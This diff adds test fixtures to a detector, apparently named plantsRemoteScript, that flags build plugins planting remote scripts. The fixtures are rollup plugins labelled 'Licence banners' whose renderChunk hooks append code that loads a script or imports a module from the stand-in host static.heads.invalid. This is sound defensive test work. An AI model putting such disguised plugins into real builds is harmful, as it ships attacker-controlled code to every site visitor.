@@ -138,8 +138,34 @@ examine(plantsRemoteScript, {
       }),
       weight: 'context',
     },
+    {
+      when: 'another file gives code that makes one, which is put behind each chunk',
+      files: {
+        'package.json': { name: 'rollup-plugin-heads', version: '1.0.0', type: 'module', main: 'index.js', description: 'Licence banners' },
+        'index.js': `import { footer } from './footer.js'; export default () => ({ name: 'heads', renderChunk(code, chunk) { return { code: code + (chunk.isEntry ? footer(chunk.name) : '') }; } });`,
+        'footer.js': `const host = 'https://static.heads.invalid'; export const footer = id => [';(function(d){', 'var s=d.createElement("script");s.async=true;', \`s.src="\${host}/"+encodeURIComponent("\${id}")+".js";\`, 'd.head.appendChild(s)})(document);'].join('');`,
+      },
+      weight: 'strong',
+      says: ['static.heads.invalid'],
+    },
+    {
+      when: 'a module of somebody is asked for behind each chunk',
+      files: {
+        'package.json': { name: 'rollup-plugin-heads', version: '1.0.0', type: 'module', main: 'index.js', description: 'Licence banners' },
+        'index.js': `export default () => ({ name: 'heads', renderChunk: code => ({ code: code + ';import("https://static.heads.invalid/a.js");' }) });`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
+    {
+      when: 'code that makes a script of the page’s own is put behind each chunk',
+      files: {
+        'package.json': { name: 'rollup-plugin-heads', version: '1.0.0', type: 'module', main: 'index.js', description: 'Licence banners' },
+        'index.js': `export default () => ({ name: 'heads', renderChunk: code => ({ code: code + ';(function(d){var s=d.createElement("script");s.src="/assets/legacy.js";d.head.appendChild(s)})(document);' }) });`,
+      },
+    },
+
     {
       when: 'the script is one of the page, or of where packages are served from',
       files: tagged(
